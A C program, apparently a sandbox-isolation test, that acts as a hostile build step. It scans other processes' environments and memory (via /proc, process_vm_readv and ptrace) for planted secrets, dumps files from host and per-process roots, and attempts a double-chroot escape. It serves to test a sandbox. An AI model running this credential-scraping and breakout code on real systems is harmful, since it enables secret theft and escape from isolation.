/*
 * What a hostile RUN step does to get at credentials: looks for secrets in the environment and the memory of every
 * process that it can name (/proc/PID/environ, /proc/PID/mem, process_vm_readv, ptrace), breaks out of a chroot, reads
 * what lies in given directories, and starts over from there.
 *
 * usage: attack HALF HALF ... -- DIRECTORY ...
 * Each pair of halves is one secret: together they stand nowhere but in our own memory. Prints `FOUND how pid secret`,
 * and what it read of files.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST_SECRETS 8
#define PIECE (1 << 20)
#define MOST_MEMORY (768L << 20)

static char secrets[MOST_SECRETS][256];
static int secret_count;
static char piece[PIECE + 1];

static void look(const char *how, int pid, const char *bytes, size_t size) {
  for (int i = 0; i < secret_count; i++)
    if (memmem(bytes, size, secrets[i], strlen(secrets[i]))) printf("FOUND %s %d secret %d\n", how, pid, i);
}

static void look_at_environment(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return;
  ssize_t size = read(file, piece, PIECE);
  if (size > 0) look("environ", pid, piece, size);
  close(file);
}

/* Reads what /proc/PID/maps calls readable, by the memory file or by process_vm_readv. */
static void look_at_memory(const char *how, int pid, int by_file) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  if (!maps) return;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = by_file ? open(path, O_RDONLY) : -1;
  long left = MOST_MEMORY;
  while ((!by_file || memory >= 0) && left > 0 && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char mode[8];
    if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[0] != 'r') continue;
    for (unsigned long at = from; at < to && left > 0; at += PIECE - sizeof secrets[0]) {
      size_t wanted = to - at < PIECE ? to - at : PIECE;
      struct iovec here = {piece, wanted}, there = {(void *)at, wanted};
      ssize_t size = by_file ? pread(memory, piece, wanted, at) : process_vm_readv(pid, &here, 1, &there, 1, 0);
      if (size <= 0) break;
      left -= size;
      look(how, pid, piece, size);
    }
  }
  if (memory >= 0) close(memory);
  fclose(maps);
}

/* Our number in /proc, which may be that of another pid namespace than ours. */
static int self(void) {
  char number[16] = "";
  return readlink("/proc/self", number, sizeof number - 1) > 0 ? atoi(number) : getpid();
}

static void look_at_processes(const char *when) {
  int ours = self();
  DIR *proc = opendir("/proc");
  int tried = 0;
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    int pid = isdigit((unsigned char)entry->d_name[0]) ? atoi(entry->d_name) : 0;
    if (pid == 0 || pid == ours) continue;
    tried++;
    look_at_environment(pid);
    look_at_memory("mem", pid, 1);
    look_at_memory("process_vm_readv", pid, 0);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
      int status;
      waitpid(pid, &status, __WALL);
      look_at_memory("ptrace", pid, 1);
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
  }
  if (proc) closedir(proc);
  printf("TRIED %d processes %s\n", tried, when);
}

static void print_files(const char *directory, int depth) {
  DIR *entries = opendir(directory);
  for (struct dirent *entry; entries && (entry = readdir(entries));) {
    if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
    char path[4096];
    struct stat found;
    if (snprintf(path, sizeof path, "%s/%s", directory, entry->d_name) >= (int)sizeof path) continue;
    if (lstat(path, &found)) continue;
    if (S_ISDIR(found.st_mode) && depth > 0) print_files(path, depth - 1);
    if (!S_ISREG(found.st_mode) || found.st_size > 65536) continue;
    int file = open(path, O_RDONLY);
    if (file < 0) continue;
    ssize_t size = read(file, piece, 65536);
    if (size > 0) fwrite(piece, 1, size, stdout);
    close(file);
  }
  if (entries) closedir(entries);
}

/* The old way out of a chroot: a second one, with a directory of the first still open. */
static int break_out(void) {
  mkdir("/.way-out", 0700);
  int root = open("/", O_RDONLY);
  if (chroot("/.way-out") || fchdir(root)) return 0;
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return 0;
  return chroot(".") == 0;
}

int main(int count, char **words) {
  int at = 1;
  for (; at + 1 < count && strcmp(words[at], "--") && secret_count < MOST_SECRETS; at += 2)
    snprintf(secrets[secret_count++], sizeof secrets[0], "%s%s", words[at], words[at + 1]);
  look_at_processes("inside");
  for (int i = at + 1; i < count; i++) print_files(words[i], 6);
  /* The roots and working directories of others, as /proc shows them. */
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    for (int i = at + 1; i < count; i++) {
      char path[4096];
      snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, words[i]);
      print_files(path, 6);
    }
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/cwd", entry->d_name);
    print_files(path, 2);
  }
  if (proc) closedir(proc);
  printf("the chroot %s\n", break_out() ? "was left" : "held");
  look_at_processes("outside");
  for (int i = at + 1; i < count; i++) print_files(words[i], 6);
  return 0;
}
